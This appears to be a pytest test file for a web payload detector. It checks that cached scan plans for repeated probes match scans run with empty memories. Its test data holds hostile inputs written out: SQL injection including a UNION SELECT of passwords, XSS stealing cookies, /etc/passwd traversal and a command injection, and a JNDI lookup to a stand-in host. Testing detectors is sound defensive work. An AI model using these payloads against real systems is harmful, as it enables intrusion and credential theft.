"""A repeated probe's form part is flushed as its plan says: its pairs are not matched again one by one.

A scanner sends the same query (``q=<probe>&page=2…``) request after request.  Its pairs, a line each,
hold something, so every flush matched each line again alone to name where the hits are, credited them
and ordered them for the result: ~140 lines of Python more than the clean request.  For a scan that found
nothing before, that outcome is a function of the engine, the text and its location (:class:`.held.Plan`),
kept with the text once met twice.  Counted in work (calls, lines of Python), never in time; the verdicts,
hits in full, excerpts and ``skipped`` are compared with scans whose memories are empty.
"""
from __future__ import annotations

import random
import sys
from urllib.parse import urlencode

import pytest

from smartlayer.detectors.payload import held, scan_parts, scan_request
from smartlayer.detectors.payload import scan as payload
from smartlayer.profile import params as param_shapes
from tests.helpers import review_request as _request

PROBE = "test' AND 8705=9360 AND 'rbaE'='rbaE"
QUERY = {"q": PROBE, "page": "2", "sort": "price_asc", "colour": "dark blue"}
FORM = {"name": "Jane O'Reilly", "comment": "fine shoes", "next": "/account/orders?tab=2"}


def _full(result):
    details = [tuple(hit) for hit in result.details]
    return result.score, result.hits, details, result.excerpt, result.truncated, result.skipped


def _empty(monkeypatch):
    monkeypatch.setattr(payload, "_CLEAN", {})
    monkeypatch.setattr(payload, "_CLEAN_LONG", [])
    monkeypatch.setattr(held, "_HELD", {})
    monkeypatch.setattr(held, "_MET", set())
    monkeypatch.setattr(held, "_FORMS", {})
    monkeypatch.setattr(held, "_FORMS_MET", set())
    monkeypatch.setattr(held, "_COOKIES_MET", set())
    monkeypatch.setattr(param_shapes, "_PARTS", {})


@pytest.fixture
def fresh(monkeypatch):
    """Every memory of the scan empty."""
    _empty(monkeypatch)


def test_a_repeated_probes_query_is_flushed_from_its_plan(fresh, monkeypatch):
    """The fifth request: no line of the query matched again, and the flush, the hits' credit and the result
    run ~45 lines of Python (~125 when each line was matched again alone and the labels built again)."""
    first = scan_request(_request(QUERY, FORM))
    for _ in range(3):
        scan_request(_request(QUERY, FORM))
    matched = []
    match = payload._Scan.match

    def counting(self, text, location, *args, **kwargs):
        matched.append(text)
        return match(self, text, location, *args, **kwargs)

    monkeypatch.setattr(payload._Scan, "match", counting)
    lines = 0

    def trace(frame, event, arg):
        nonlocal lines
        name = frame.f_code.co_filename
        if event == "line" and (name.endswith("payload/matching.py") or name.endswith("payload/evidence.py")):
            lines += 1
        return trace

    request = _request(QUERY, FORM)
    sys.settrace(trace)
    try:
        result = scan_request(request)
    finally:
        sys.settrace(None)
    assert first.score >= 3 and len(first.hits) >= 5
    assert _full(result) == _full(first)
    assert matched == []
    assert 0 < lines <= 60


def test_a_kept_form_part_is_queued_as_its_pairs_joined(fresh, monkeypatch):
    """The third request: the query's decoding is kept (:data:`.held._FORMS`) with its pairs joined a line
    each, queued as they are (``queue_pairs`` neither filters nor joins them again)."""
    for _ in range(2):
        scan_request(_request(QUERY, FORM))
    calls = []
    queue_pairs = payload._Scan.queue_pairs
    monkeypatch.setattr(payload._Scan, "queue_pairs", lambda self, *a, **k: (calls.append(a), queue_pairs(self, *a, **k)))
    first = scan_request(_request(QUERY, FORM))
    assert calls == []
    assert first.score >= 3


_VALUES = [
    PROBE,
    "1' UNION SELECT username, password FROM users--",
    "1'/**/UNION/**/SELECT/**/1,2,3--",                    # read two ways (comments)
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    "{{7*7}}",
    "' OR 1=1 -- <script>alert(document.cookie)</script> ../../etc/passwd; ls -la ${jndi:ldap://x/a}",  # many hits
    "select",                                              # a word, nothing
    "running shoes",
]


def _request_of(rng):
    """A request with one to three attacking values among ordinary ones, in the query or the form."""
    query = {"q": "trail shoes", "page": "2", "sort": "price_asc"}
    form = {"name": "Jane", "comment": "fine", "rating": "4"}
    for _ in range(rng.randint(1, 3)):
        target = query if rng.random() < 0.7 else form
        target[rng.choice(list(target) + ["x", "a%0a"])] = rng.choice(_VALUES)
    path = "/shop/review" if rng.random() < 0.85 else "/shop/../../etc/passwd"    # a hit before the flush
    return urlencode(query), urlencode(form).encode(), path


def test_plans_give_what_a_scan_with_empty_memories_gives(monkeypatch):
    """Guard: random requests, each sent several times in a shuffled stream (plans made, read, and the
    memories emptied now and then), score, hits in full, excerpt, truncation and ``skipped`` as a scan of
    the same request with every memory empty."""
    rng = random.Random(13)
    requests = [_request_of(rng) for _ in range(40)]
    stream = [request for request in requests for _ in range(5)]
    rng.shuffle(stream)
    headers = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0"}
    cookies = {"sessionid": "k2j9d0s7a6q5w4e3", "theme": "dark"}

    def scanned(request):
        query, body, path = request
        return _full(scan_parts(query_string=query, body=body, content_type="application/x-www-form-urlencoded",
                                headers=headers, cookies=cookies, path=path))

    expected = {}
    for request in requests:
        with monkeypatch.context() as empty:
            _empty(empty)
            expected[request] = scanned(request)
    _empty(monkeypatch)
    planned = 0
    for number, request in enumerate(stream):
        if number % 67 == 66:
            _empty(monkeypatch)
        assert scanned(request) == expected[request], request
        planned = max(planned, sum(len(entry[4]) for entry in held._HELD.values()))
    assert planned > 0                         # plans were made (and read: the stream sends each five times)
    assert any(score >= 3 for score, *_ in expected.values())
